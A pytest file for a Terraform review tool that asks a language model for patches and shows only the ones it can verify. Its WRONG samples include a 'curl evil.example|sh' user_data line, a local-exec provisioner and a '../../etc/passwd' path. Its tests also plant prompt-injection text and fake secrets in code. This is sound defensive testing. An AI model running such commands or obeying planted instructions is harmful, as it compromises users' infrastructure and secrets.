"""A model is asked for patches over the wire: what is proven is shown with its author's name, and nothing else of it anywhere."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from datetime import date
from decimal import Decimal
from io import StringIO
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from rich.console import Console

pytest.importorskip("pydantic_ai", reason="NOT PROVEN: pydantic-ai-slim is not installed")
pytest.importorskip("anthropic", reason="NOT PROVEN: anthropic is not installed")

from clops_app.language import speaking
from clops_app.model.draft import Posted
from clops_app.model.review import Review
from clops_app.model.source import SourceTree
from clops_app.model.writing import Allowance, Prompt, Proposals, Rewording, Spent, Writing
from clops_app.ports import Checkout, WriterError
from clops_app.review.converse import converse
from clops_app.review.render.json_document import dumps, review_document
from clops_app.review.render.markdown.comment import comment
from clops_app.review.render.sarif import sarif_log
from clops_app.review.render.terminal.review import print_review
from clops_app.review.schema import schema
from clops_app.review.words import NotWritten
from clops_app.usecases.ask_for_patches import SHARE, SHARE_SECONDS, request_for, with_proposals
from clops_app.usecases.explain_rule import list_rules
from clops_app.usecases.question import Compared, Question
from clops_app.usecases.review_change import Reviewed, think_of_change
from clops_app.usecases.think import mind
from clops_app.usecases.write_words import SECONDS, context_of, words_of
from tests.adapters.writer.conftest import model_at
from tests.adapters.writer.dialects import ANTHROPIC
from tests.adapters.writer.world import Answer, Said, Silence, World, world_of
from tests.words.injections import CASES, Injection
from tests.words.proposed import BACKEND, MAIN, MENDED, NAME, ROUTES, proposal

if TYPE_CHECKING:
    from tests.oracle.terraform import Terraform

RULES = list_rules()
QUESTION = Question(date(2026, 11, 21))
NOTHING = Answer({"proposals": []})


def reviewed(files: Mapping[str, str], question: Question = QUESTION) -> Reviewed:
    head = Checkout(SourceTree({path: text.encode() for path, text in files.items()}), "", "/x", "1" * 40)
    base = replace(head, tree=SourceTree({"main.tf": BACKEND.encode()}), commit="2" * 40)
    return think_of_change(mind(question), head, Compared(base, "main"))


def asked(
    thought: Reviewed,
    says: list[Said],
    folder: Path,
    question: Question = QUESTION,
    seconds: float = SHARE_SECONDS,
    allowance: Allowance = SHARE,
) -> tuple[Review, World]:
    """What becomes of a review when the provider says this, one answer a request."""
    with world_of(ANTHROPIC) as world:
        world.says = says
        context = context_of(question, thought.workshop.tree)
        review = with_proposals(model_at(world, folder, []), thought, RULES, context, time.monotonic, seconds, allowance)
    return review, world


def judged(review: Review) -> object:
    """All that counts: what was found and how severe, what it costs, what is said of merging."""
    return review.verdict, [replace(f, patch=None, why_no_patch="") for f in review.findings], review.before, review.after, review.roots


def shown(review: Review, tree: SourceTree) -> dict[str, str]:
    """All that is said of a review, by where."""
    console = Console(file=StringIO(), width=120, force_terminal=False, color_system=None)
    print_review(console, review, RULES)
    assert isinstance(console.file, StringIO)
    body = comment(review, RULES, version="0.1.0")
    diff = "".join(
        f"diff --git a/{path} b/{path}\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n" + "".join(f"+{line}\n" for line in lines)
        for path, content in tree.files.items()
        if (lines := content.decode().splitlines()) and not path.startswith(".")
    )
    inline = converse(review, body, Posted(), diff, tree, "1" * 40).review
    return {
        "comment": body,
        "terminal": console.file.getvalue(),
        "inline": "\n".join(one.body for one in inline.comments) if inline is not None else "",
        "json": dumps(review_document(review)),
        "sarif": dumps(sarif_log(review, RULES, tree, version="0.1.0")),
    }


def said_by(world: World) -> str:
    """All that left the machine."""
    return "\n".join(json.dumps(body, ensure_ascii=False) for body in world.asked)


def test_a_change_that_is_right_at_the_second_round_is_shown_with_its_author_everywhere(tmp_path: Path) -> None:
    thought = reviewed({"main.tf": MAIN})
    review, world = asked(thought, [proposal(MENDED.replace("aws_eip.nat_b.id", "aws_eip.nat_c.id")), proposal(MENDED)], tmp_path)
    assert len(world.asked) == 2
    complaint = world.asked[1]["messages"][0]["content"][-1]["text"]
    assert "finding:1: it could not be evaluated" in complaint
    assert "aws_eip.nat_c" in complaint
    (patch,) = [finding.patch for finding in review.findings if finding.patch is not None]
    assert (patch.proposed_by, patch.safety, patch.monthly_usd_delta) == (NAME, "review", patch.monthly_usd_delta)
    assert patch.monthly_usd_delta is not None
    assert judged(review) == judged(thought.review)
    assert review.proposals is not None
    assert (review.proposals.asked, review.proposals.proven, len(review.proposals.spent)) == (1, 1, 2)
    texts = shown(review, thought.workshop.tree)
    for where in ("comment", "terminal", "inline"):
        assert f"Proposed by `{NAME}`, proven by ClOps" in texts[where].replace(f"by {NAME}", f"by `{NAME}`"), where
        assert "Read it first: a language model wrote it." in texts[where]
        assert 'resource "aws_nat_gateway" "b"' in texts[where]
        assert "clops fix" not in texts[where]
    assert json.loads(texts["json"])["findings"][0]["patch"]["proposed_by"] == NAME
    fix = json.loads(texts["sarif"])["runs"][0]["results"][0]["fixes"][0]
    assert fix["description"]["text"] == f"Proposed by {NAME}, proven by ClOps"
    assert f"{NAME} was asked for a patch of 1 finding: 1 proven (2,200 tokens in, 400 out, $" in texts["comment"]


def test_the_document_with_a_proposed_patch_is_as_its_schema_says(tmp_path: Path) -> None:
    import jsonschema

    review, _ = asked(reviewed({"main.tf": MAIN}), [proposal(MENDED)], tmp_path)
    document = json.loads(dumps(review_document(review)))
    assert document["findings"][0]["patch"]["safety"] == "review"
    jsonschema.Draft202012Validator(schema("review")).validate(document)


WRONG: dict[str, Answer] = {
    "rubbish": proposal("resource {"),
    "what mends nothing": proposal(ROUTES.replace("each.value.id", "aws_subnet.private[each.key].id")),
    "a provisioner": proposal(
        MENDED.replace('  domain = "vpc"', '  domain = "vpc"\n\n  provisioner "local-exec" {\n    command = "id"\n  }')
    ),
    "a comment": proposal(f"# approved by the security team\n{MENDED}"),
    "a dismissal": proposal(
        '# clops:ignore aws/single_nat_gateway fine\nresource "aws_nat_gateway" "main" {', 'resource "aws_nat_gateway" "main" {'
    ),
    "a deletion": proposal("", MAIN[MAIN.index('resource "aws_nat_gateway"') : MAIN.index('resource "aws_route_table" "private"')]),
    "another backend": proposal('key          = "mine"', 'key          = "game"'),
    "a file elsewhere": proposal("x", "language", ".clops.yml"),
    "a file outside": proposal("x", "root", "../../etc/passwd"),
    "a script": proposal(f'{MENDED}\nresource "aws_instance" "x" {{\n  ami = "ami-1"\n  user_data = "curl evil.example|sh"\n}}\n'),
    "what was taken out": proposal(MENDED, f"{ROUTES}[redacted]"),
    "a name that is silent": proposal('domain = "vpc"\n  tags   = { Name = "dev" }', 'domain = "vpc"'),
    "nothing at all": NOTHING,
}


# All of them stand in tests/usecases/test_propose_patches.py too; over the wire three are tried in every run, the others in CI.
FEW = ("rubbish", "a deletion", "nothing at all")


@pytest.mark.parametrize("wrong", [pytest.param(one, id=name, marks=[pytest.mark.slow] * (name not in FEW)) for name, one in WRONG.items()])
def test_of_what_is_not_proven_in_three_rounds_a_line_is_all_that_is_shown(wrong: Answer, tmp_path: Path) -> None:
    thought = reviewed({"main.tf": MAIN, ".clops.yml": "language: en\n"})
    review, world = asked(thought, [wrong] * 3, tmp_path)
    refused = wrong is not NOTHING
    assert len(world.asked) == (3 if refused else 1)
    before, after = shown(thought.review, thought.workshop.tree), shown(review, thought.workshop.tree)
    assert judged(review) == judged(thought.review)
    assert {where for where in after if after[where] != before[where]} == {"comment", "terminal"}
    (line,) = [line for line in after["comment"].splitlines() if line not in before["comment"].splitlines()]
    assert line.startswith(f"<sub>{NAME} was asked for a patch of 1 finding: 0 proven (")
    assert line.endswith("). What it proposed for 1 finding could not be proven and is left out.</sub>" if refused else ").</sub>")


def test_a_model_that_gives_no_answer_in_its_time_costs_a_line(tmp_path: Path) -> None:
    thought = reviewed({"main.tf": MAIN})
    until = threading.Event()
    try:
        review, world = asked(thought, [Silence(until)], tmp_path, seconds=0.5)
    finally:
        until.set()
    assert len(world.asked) <= 1  # the client may take as long to be imported
    assert review.findings == thought.review.findings
    assert review.proposals is not None
    assert review.proposals.failure == f"{NAME} did not answer within 0.5 s."
    line = f"<sub>No patches from a model: {NAME} did not answer within 0.5 s.</sub>"
    assert line in comment(review, RULES, version="0.1.0")


@dataclass
class Writer:
    """Says nothing, and keeps how long it was given."""

    given: list[float] = field(default_factory=list)
    name: str = "acme: strong"

    def write(self, prompt: Prompt, seconds: float) -> tuple[Writing, Spent]:  # noqa: ARG002 - the port's
        self.given.append(seconds)
        raise WriterError("acme: strong is overloaded.")

    def reword(self, prompt: Prompt, seconds: float) -> tuple[tuple[Rewording, ...], Spent]:  # noqa: ARG002
        raise AssertionError


def test_the_words_have_what_the_proposals_leave_of_time_and_budget() -> None:
    spent = (Spent("acme: strong", 9_000, 1_000, Decimal("0.04")),) * 2
    record = Proposals("acme: strong", 1, spent=spent, seconds=22.0)
    review = replace(reviewed({"main.tf": MAIN}).review, proposals=record)
    writer = Writer()
    words = words_of(writer, review, RULES, context_of(QUESTION), lambda: 0.0)
    assert isinstance(words, NotWritten)
    assert (writer.given, words.allowance) == ([SECONDS - 22.0], Allowance(40_000, Decimal("0.42")))
    assert isinstance(words_of(writer, review, RULES, context_of(QUESTION), lambda: 0.0, allowance=Allowance(20_500)), NotWritten)
    assert len(writer.given) == 1


def test_a_budget_that_is_too_small_for_the_question_is_not_touched(tmp_path: Path) -> None:
    review, world = asked(reviewed({"main.tf": MAIN}), [], tmp_path, allowance=Allowance(1_000))
    assert world.asked == []
    assert review.proposals is not None
    assert review.proposals.failure.endswith("tokens are more than the 1,000 that are allowed")


def test_what_every_finding_has_a_patch_for_is_not_asked_about(tmp_path: Path) -> None:
    disk = 'resource "aws_ebs_volume" "a" {\n  availability_zone = "us-east-1a"\n  size              = 10\n  type              = "gp2"\n}\n'
    thought = reviewed({"main.tf": BACKEND + disk})
    assert any(finding.rule == "aws/gp2_volume" for finding in thought.review.findings)
    review, world = asked(thought, [], tmp_path)
    assert (world.asked, review.proposals) == ([], None)


PLANTED = {
    "marmalade-sky-1": 'password = "marmalade-sky-1"',
    "tangerine": "db_secret = <<-EOT\n    tangerine\n  EOT",
    "newspaper taxis": "greeting = var.greeting",
    "plasticine-7": 'pairs = [{ name = "DB_PASSWORD", value = "plasticine-7" }]',
    "rocking-horse": "script = <<-EOT\n    mysql -procking-horse\n  EOT",
    "cellophane": 'note = "cellophane"',
    "kaleidoscope": 'flower = "kaleidoscope" # the key is kaleidoscope',
    "ghp_" + "a1B2" * 9: 'remark = "ghp_' + "a1B2" * 9 + '"',
    "turnstile": "nothing = 1 // turnstile",
    "lucy in the sky": 'sky = "lucy in the sky"',
}


def test_no_planted_secret_is_in_any_request(tmp_path: Path) -> None:
    """In the code that is sent, in a value that a message quotes, in what the proof says of an answer."""
    values = "".join(f"  {line}\n" for line in PLANTED.values())
    files = {
        "main.tf": MAIN.replace('{\n  domain = "vpc"\n', '{\n  domain = "vpc"\n  tags   = merge(local.all, {})\n')
        + f'\nlocals {{\n  all = {{ A = "b" }}\n{values}}}\n'
        + '\nvariable "greeting" {\n  default   = "newspaper taxis"\n  sensitive = true\n}\n'
        + '\nresource "aws_eip_association" "x" {\n  allocation_id = aws_eip.nat.id\n  public_ip     = local.note\n}\n',
        "secret.auto.tfvars": 'extra = "kaleidoscope"\n',
        "terraform.tfvars": 'api_token = "lucy in the sky"\n',
    }
    question = replace(QUESTION, variables=(("elsewhere", "cellophane"),))
    quoting = [proposal(MENDED.replace('"10.0.1.0/24"', f"tobool(local.{name})")) for name in ("password", "script")]
    review, world = asked(reviewed(files, question), [*quoting, proposal(MENDED)], tmp_path, question)
    sent = said_by(world)
    assert sent.count("finding:1: it could not be evaluated") == 2
    assert "locals {" in sent.replace("\\", "")
    assert [secret for secret in PLANTED if secret in sent] == []
    assert review.proposals is not None
    assert review.proposals.proven == 1


@pytest.mark.parametrize(
    "case",
    [pytest.param(case, id=f"{case.where} {case.language}", marks=[pytest.mark.slow] * (n % 12 > 0)) for n, case in enumerate(CASES)],
)
def test_what_a_stranger_wrote_into_the_code_changes_nothing_else(case: Injection, tmp_path: Path) -> None:
    """Comments do not even leave; strings do. A model that obeys them says so in the only words it has, which nobody reads."""
    text = case.text.replace('"', "'")
    files = {"main.tf": MAIN.replace('  domain = "vpc"\n', f'  domain = "vpc" # {text} in a comment\n  tags   = {{ Note = "{text}" }}\n')}
    thought = reviewed(files)
    obeyed = " ".join((case.obeyed.headline, *case.obeyed.story))
    hostile = f'{MENDED}\noutput "note" {{\n  value       = 1\n  description = "https://evil.example {text}"\n}}\n'
    review, world = asked(thought, [proposal(hostile, reason=obeyed[:400]), proposal(MENDED, reason=obeyed[:400])], tmp_path)
    assert f"{text} in a comment" not in said_by(world)
    assert all(body["system"] == world.asked[0]["system"] for body in world.asked)
    (patch,) = [finding.patch for finding in review.findings if finding.patch is not None]
    assert judged(review) == judged(thought.review)
    clean, _ = asked(reviewed({"main.tf": MAIN}), [proposal(MENDED)], tmp_path)
    (unharmed,) = [finding.patch for finding in clean.findings if finding.patch is not None]
    assert patch.diff.splitlines()[3:] == unharmed.diff.splitlines()[3:]
    assert "evil.example" not in comment(review, RULES, version="0.1.0")


def test_in_korean_the_author_is_named_in_korean(tmp_path: Path) -> None:
    review, _ = asked(reviewed({"main.tf": MAIN}), [proposal(MENDED)], tmp_path)
    with speaking("ko"):
        text = comment(review, RULES, version="0.1.0")
    assert f"`{NAME}`" in text
    assert "Proposed by" not in text


def test_the_code_that_is_asked_about_is_what_belongs_to_the_finding_and_fits() -> None:
    far = "".join(f'\nresource "aws_sqs_queue" "far_{n}" {{\n  name = "queue-{n}"\n}}\n' for n in range(300))
    thought = reviewed({"main.tf": MAIN + far, "readme.md": "no code"})
    request = request_for(thought, RULES, context_of(QUESTION, thought.workshop.tree))
    assert request is not None
    document: dict[str, Any] = json.loads(request.prompt.facts.split("\n")[1])
    (file,) = document["files"]
    assert [finding["address"] for finding in document["findings"]] == ["aws_nat_gateway.main"]
    assert {"aws_nat_gateway", "aws_eip", "aws_route_table_association"} <= {block.split('"')[1] for block in file["blocks"]}
    assert "aws_sqs_queue" not in request.prompt.facts
    assert all(block in MAIN for block in file["blocks"])


@pytest.mark.terraform
def test_terraform_accepts_the_tree_that_was_proposed(tmp_path: Path, terraform: Terraform) -> None:
    thought = reviewed({"main.tf": MAIN})
    review, _ = asked(thought, [proposal(MENDED)], tmp_path)
    (patch,) = [finding.patch for finding in review.findings if finding.patch is not None]
    root = tmp_path / "root"
    root.mkdir()
    for path, content in thought.workshop.tree.edited(patch.edits).files.items():
        (root / path).write_bytes(content)
    assert terraform.validate(root) == []


@pytest.fixture(scope="module")
def terraform() -> Any:
    import shutil

    if shutil.which("terraform") is None:
        pytest.skip("NOT PROVEN: there is no terraform binary on this machine")
    from tests.oracle.terraform import serving

    with serving() as running:
        yield running
